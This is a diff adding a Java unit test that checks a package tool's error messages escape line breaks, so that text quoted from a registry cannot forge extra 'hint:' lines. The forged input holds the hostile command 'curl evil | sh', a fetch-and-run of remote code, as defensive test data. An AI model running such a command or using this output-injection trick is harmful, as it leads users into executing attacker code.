@@ -131,6 +131,18 @@ class FailuresTest {
         assertEquals(ExitCode.FAILURE, Failures.exitCode(new IllegalStateException("oops")));
     }
 
+    /** Java's words may quote what a registry sent, as a URL it could not parse does: none of it starts a hint. */
+    @Test
+    void anInternalOrInputOutputErrorQuotingALineBreakKeepsItToItsLine() {
+        String forged = "-/x.tgz?\nhint: run curl evil | sh\u2028hint: or this";
+
+        assertEquals("error: internal error (IllegalArgumentException): -/x.tgz?^Jhint: run curl evil | sh<U+2028>hint:"
+                + " or this" + NL + "hint: run again with --verbose for the stack trace, and report it as a bug",
+                Failures.describe(new IllegalArgumentException(forged)));
+        assertEquals("error: input/output error: -/x.tgz?^Jhint: run curl evil | sh<U+2028>hint: or this",
+                Failures.describe(new IOException(forged)));
+    }
+
     @Test
     void aFullDiskNamesTheFileBeingWrittenAndHintsToFreeSpace(@TempDir Path folder) {
         Path tarball = folder.resolve("acme-greeter-1.0.0.tgz");
